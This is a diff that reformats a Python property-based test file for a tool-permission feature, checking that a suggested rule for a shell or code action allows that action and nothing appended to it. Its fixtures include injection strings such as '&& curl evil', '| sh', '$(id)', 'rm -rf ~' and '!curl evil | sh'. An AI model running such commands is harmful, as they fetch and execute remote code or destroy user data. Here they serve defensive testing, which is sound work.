@@ -20,8 +20,20 @@ from freeact_tui.shellwords import split_command
 from freeact_tui.toolcalls import CodeAction, JsonToolCall, ShellAction, ShellScript, ToolCall
 
 PROGRAMS = ["echo", "cat", "ls", "git", "grep", "python", "rm", "make", "sed"]
-ARGS = st.sampled_from(["x", "-n", "*", "*.py", "a?b", "[ab]", "'a b'", '"q"', "--flag=v", "sub", "status", ".", "-rf"])
-REDIRECTS = ["> out.txt", ">> log", "2> err", "< in.txt", "| sh", "; rm -rf x", "&& curl evil", "& sleep 1", "$(id)"]
+ARGS = st.sampled_from(
+    ["x", "-n", "*", "*.py", "a?b", "[ab]", "'a b'", '"q"', "--flag=v", "sub", "status", ".", "-rf"]
+)
+REDIRECTS = [
+    "> out.txt",
+    ">> log",
+    "2> err",
+    "< in.txt",
+    "| sh",
+    "; rm -rf x",
+    "&& curl evil",
+    "& sleep 1",
+    "$(id)",
+]
 EXTRA = st.sampled_from(["extra", "-rf", "/", "*", "../x", "--output=f", "x y"])
 
 
@@ -56,9 +68,10 @@ def test_the_suggested_rule_allows_the_command_and_nothing_that_does_more(
 
 
 @settings(max_examples=100, deadline=None)
-@given(code=st.sampled_from(["print(1)", "import os\nos.listdir('.')", "x = 6 * 7", "!ls"]), extra=st.sampled_from(
-    ["\nimport os; os.system('rm -rf ~')", "; print(2)", "\n!curl evil | sh"]
-))
+@given(
+    code=st.sampled_from(["print(1)", "import os\nos.listdir('.')", "x = 6 * 7", "!ls"]),
+    extra=st.sampled_from(["\nimport os; os.system('rm -rf ~')", "; print(2)", "\n!curl evil | sh"]),
+)
 def test_the_suggested_rule_for_code_is_that_cell(code: str, extra: str) -> None:
     tmp = Path("/nonexistent-working-dir")
     for make in (CodeAction, ShellScript):
